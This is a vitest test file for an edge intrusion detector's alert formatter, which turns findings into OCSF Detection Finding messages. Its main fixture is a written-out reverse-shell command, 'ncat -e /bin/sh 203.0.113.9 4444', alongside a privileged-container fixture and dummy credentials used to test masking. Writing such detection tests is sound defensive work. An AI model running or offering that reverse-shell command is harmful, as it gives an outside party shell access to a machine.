import fc from "fast-check";
import { expect, describe as group, test } from "vitest";
import { alertIds, catalogue } from "../alerts/catalogue.ts";
import { detectionFindingSchema } from "../alerts/ocsf-schema.ts";
import { texts } from "../alerts/text.ts";
import type { Finding } from "../detectors/detector.ts";
import type { ContainerDetail, Process } from "../events/fact.ts";
import { type DescribeContext, describe, maxBodyBytes } from "./describe.ts";

const context: DescribeContext = {
  device: { hostname: "press-7", deviceId: "edge-0042", moduleId: "vedette", hub: "plant.azure-devices.net" },
  language: "en",
  version: "1.2.3",
  redact: true,
};

const process: Process = {
  pid: 4711,
  ppid: 4700,
  exe: "/usr/bin/ncat",
  argv: ["ncat", "-e", "/bin/sh", "203.0.113.9", "4444"],
  comm: "ncat",
  cwd: "/tmp",
  uid: 0,
  euid: 0,
  loginUid: 1000,
  user: "root",
  tty: "pts/0",
  session: 12,
  ancestors: [
    { pid: 4700, exe: "/bin/bash", argv: ["bash"], uid: 1000 },
    { pid: 4690, exe: "/usr/sbin/sshd", argv: ["sshd: eve@pts/0"], uid: 0 },
  ],
};

const finding: Finding = {
  alert: "reverse-shell",
  at: 1_790_000_000_123,
  subject: "ncat -e /bin/sh 203.0.113.9 4444",
  reason: "ncat hands a shell to 203.0.113.9",
  confidence: "high",
  evidence: { process, destination: { ip: "203.0.113.9", port: 4444 } },
};

const detail: ContainerDetail = {
  id: "c0ffee".padEnd(64, "0"),
  name: "helper",
  image: "example/helper:1",
  imageId: `sha256:${"ab".repeat(32)}`,
  module: "helper",
  privileged: true,
  capAdd: ["SYS_ADMIN"],
  binds: ["/:/host"],
  labels: {},
  command: [],
  entrypoint: [],
  environment: ["API_TOKEN=do-not-leak-me"],
};

function told(given: Finding, more: Partial<DescribeContext> = {}) {
  const message = describe(given, { ...context, ...more });
  const body = JSON.parse(message.body);
  return { message, body, judged: detectionFindingSchema.safeParse(body) };
}

group("describe", () => {
  test("a finding becomes a valid Detection Finding", () => {
    const { body, judged, message } = told(finding);
    expect(judged.error?.issues).toBeUndefined();
    expect(body).toMatchObject({
      type_uid: 200401,
      time: finding.at,
      severity_id: 4,
      confidence_id: 3,
      message: "Reverse shell: ncat -e /bin/sh 203.0.113.9 4444",
      finding_info: { uid: message.id, analytic: { uid: "reverse-shell", type_id: 1 }, types: ["IoT_ReverseShell"] },
      device: { type_id: 7, hostname: "press-7", uid: "edge-0042" },
    });
    expect(message.properties).toEqual({
      alertId: "reverse-shell",
      severity: "high",
      activity: "create",
      class_uid: "2004",
      schema: "ocsf/1.8.0",
    });
  });

  test("the process is shown with its parent, its ancestry and who logged in", () => {
    const [evidence] = told(finding).body.evidences;
    expect(evidence.process).toMatchObject({
      pid: 4711,
      name: "ncat",
      cmd_line: "ncat -e /bin/sh 203.0.113.9 4444",
      user: { name: "root", uid: "0" },
      parent_process: { pid: 4700, path: "/bin/bash", user: { uid: "1000" } },
      session: { uid: "12", terminal: "pts/0" },
    });
    expect(evidence.process.ancestry.map((step: { name: string }) => step.name)).toEqual(["bash", "sshd"]);
    expect(evidence.actor).toEqual({ user: { uid: "1000" } });
    expect(evidence.dst_endpoint).toEqual({ ip: "203.0.113.9", port: 4444 });
  });

  test("every alert is valid in both languages and every activity", () => {
    for (const alert of alertIds) {
      for (const language of ["en", "ja"] as const) {
        for (const activity of ["create", "update", "close"] as const) {
          const { judged, body } = told({ ...finding, alert }, { language, activity, opened: finding.at - 5 });
          expect(judged.error?.issues, alert).toBeUndefined();
          expect(body.finding_info.title).toBe(texts[language][alert].title);
          expect(body.finding_info.analytic.name).toBe(texts.en[alert].title);
        }
      }
    }
  });

  test("a container alone is enough evidence, shows no environment and keeps its full id", () => {
    const { body, judged, message } = told({
      ...finding,
      alert: "privileged-container",
      evidence: { container: detail },
    });
    expect(judged.error?.issues).toBeUndefined();
    expect(body.evidences[0].container).toEqual({
      uid: detail.id,
      name: "helper",
      image: { uid: detail.imageId, name: "example/helper:1" },
      tags: [{ name: "module", value: "helper" }],
    });
    expect(body.evidences[0].data.container).toMatchObject({ privileged: true, cap_add: ["SYS_ADMIN"] });
    expect(message.body).not.toContain("do-not-leak-me");
  });

  test("the severity of the match wins over the catalogue's", () => {
    expect(told({ ...finding, severity: "low" }).body.severity_id).toBe(2);
    expect(told(finding).message.severity).toBe(catalogue["reverse-shell"].severity);
  });
});

group("ids", () => {
  test("the same finding has the same id in another run", () => {
    expect(told(finding).message.id).toBe(told(structuredClone(finding)).message.id);
    // Pinned: an id that changes with a release would double what is resent over an update.
    expect(told(finding).message.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-8[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    expect(told(finding).message.id).toBe("b7a7c50a-fee7-88c1-9130-37f607cb9ba5");
  });

  test("another device, alert, subject or time has another id", () => {
    const others = [
      told({ ...finding, alert: "port-forwarding" }),
      told({ ...finding, subject: `${finding.subject} ` }),
      told({ ...finding, at: finding.at + 1 }),
      told(finding, { device: { ...context.device, deviceId: "edge-0043" } }),
      told(finding, { test: true }),
    ].map(({ message }) => message.id);
    expect(new Set([...others, told(finding).message.id]).size).toBe(6);
  });

  test("an update keeps the finding's id and has its own message id", () => {
    const opened = told(finding);
    const later = { ...finding, at: finding.at + 60_000 };
    const update = told(later, { activity: "update", opened: finding.at, count: 7, firstSeen: finding.at });
    expect(update.body.finding_info.uid).toBe(opened.message.id);
    expect(update.message.id).not.toBe(opened.message.id);
    expect(update.body.metadata.uid).toBe(update.message.id);
    expect(update.body).toMatchObject({
      activity_id: 2,
      count: 7,
      time: later.at,
      finding_info: { created_time: finding.at, first_seen_time: finding.at, last_seen_time: later.at },
    });
  });
});

group("what an attacker can write", () => {
  test("the message is one line without escapes, in whatever the subject holds", () => {
    const subject = "a\u001b[2Jb\nc\u202ed\u0000\ud800\u2028e\u009bf";
    expect(told({ ...finding, subject }).body.message).toBe(
      "Reverse shell: a\\x1b[2Jb\\nc\\u{202e}d\\x00\\u{d800}\\u{2028}e\\x9bf",
    );
  });

  test("a trailing blank of a file name is kept", () => {
    const { body } = told({ ...finding, evidence: { file: { path: "/tmp/notes.txt " } } });
    expect(body.evidences[0].file).toMatchObject({ name: "notes.txt ", path: "/tmp/notes.txt " });
  });

  test("an address that is none does not break the class", () => {
    const { body, judged } = told({ ...finding, evidence: { source: { ip: "not an ip", port: 1 }, destination: {} } });
    expect(judged.error?.issues).toBeUndefined();
    expect(body.evidences[0].src_endpoint).toEqual({ name: "not an ip", port: 1 });
  });

  test("huge evidence is cut below the limit and marked", () => {
    const argv = Array.from({ length: 3000 }, (_, i) => `"${i}\u0001"`.repeat(20));
    const ancestors = Array.from({ length: 16 }, (_, pid) => ({ pid, exe: "\u0007".repeat(9000), argv }));
    const data = { list: Array.from({ length: 500 }, () => ({ deep: { deeper: argv } })) };
    const { message, body, judged } = told({
      ...finding,
      subject: "漢".repeat(100_000),
      reason: "\\".repeat(100_000),
      evidence: { process: { ...process, argv, ancestors }, data, file: { path: `/${"\u0000".repeat(99_999)}` } },
    });
    expect(judged.error?.issues).toBeUndefined();
    expect(Buffer.byteLength(message.body)).toBeLessThanOrEqual(maxBodyBytes);
    expect(body.metadata.is_truncated).toBe(true);
    expect(body.evidences[0].process.cmd_line.length).toBeLessThanOrEqual(8192);
  });

  test("a command line just below the limit is whole and not marked", () => {
    const argv = ["x".repeat(8192)];
    const { body } = told({ ...finding, evidence: { process: { ...process, argv } } });
    expect(body.evidences[0].process.cmd_line).toBe(argv[0]);
    expect(body.metadata.is_truncated).toBeUndefined();
    const longer = told({ ...finding, evidence: { process: { ...process, argv: ["x".repeat(8193)] } } });
    expect(longer.body.evidences[0].process.cmd_line).toMatch(/^x{8191}…$/);
    expect(longer.body.metadata.is_truncated).toBe(true);
  });

  test("whatever the strings and numbers, the result is valid and small", () => {
    const wild = fc.string({ unit: "binary", maxLength: 40 });
    const any = fc.oneof(wild, fc.string({ unit: fc.constantFrom("\ud800", "\udfff", "'", '"', "\\", "\u0000", "€") }));
    const number = fc.oneof(fc.integer(), fc.double());
    const anyProcess = fc.record({
      pid: number,
      ppid: number,
      exe: any,
      argv: fc.array(any),
      comm: fc.option(any, { nil: undefined }),
      uid: fc.option(number, { nil: undefined }),
      loginUid: fc.option(number, { nil: undefined }),
      ancestors: fc.array(fc.record({ pid: number, exe: any, argv: fc.array(any) }), { maxLength: 3 }),
    });
    const anyFinding = fc.record({
      alert: fc.constantFrom(...alertIds),
      at: number,
      subject: any,
      reason: any,
      confidence: fc.constantFrom("low" as const, "medium" as const, "high" as const),
      count: fc.option(number, { nil: undefined }),
      evidence: fc.record({
        process: fc.option(anyProcess, { nil: undefined }),
        source: fc.option(fc.record({ ip: any, port: number }), { nil: undefined }),
        file: fc.option(fc.record({ path: any, mode: number }), { nil: undefined }),
        user: fc.option(any, { nil: undefined }),
        url: fc.option(any, { nil: undefined }),
        container: fc.option(fc.record({ id: any, name: any, image: any }), { nil: undefined }),
        data: fc.dictionary(any, fc.anything()),
      }),
    });
    fc.assert(
      fc.property(anyFinding, fc.boolean(), (given, redact) => {
        const { judged, body, message } = told(given as Finding, { redact });
        expect(judged.error?.issues).toBeUndefined();
        expect(body.message).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
        expect(Buffer.byteLength(message.body)).toBeLessThanOrEqual(maxBodyBytes);
      }),
      { numRuns: 300 },
    );
  });
});

group("secrets", () => {
  const secretive: Finding = {
    ...finding,
    subject: "mysql -uroot -phunter2secret",
    evidence: {
      process: { ...process, argv: ["mysql", "-uroot", "-phunter2secret"] },
      url: "https://eve:hunter2secret@198.51.100.7/x",
      data: { env: { DB_PASSWORD: "hunter2secret" } },
    },
  };

  test("are masked in message, command line, address and data", () => {
    const { body, message } = told(secretive);
    expect(message.body).not.toContain("hunter2secret");
    expect(body.evidences[0].process.cmd_line).toBe("mysql -uroot -p***");
    expect(body.evidences[0].url.url_string).toBe("https://eve:***@198.51.100.7/x");
  });

  test("are shown where the operator switched the masking off", () => {
    expect(told(secretive, { redact: false }).message.body.split("hunter2secret").length - 1).toBe(4);
  });
});

test("a test alert says so in message, labels and properties", () => {
  const { body, message, judged } = told(finding, { test: true });
  expect(judged.error?.issues).toBeUndefined();
  expect(body.message).toMatch(/^\[test\] /);
  expect(body.metadata.labels).toEqual(["test"]);
  expect(message.properties.test).toBe("true");
});
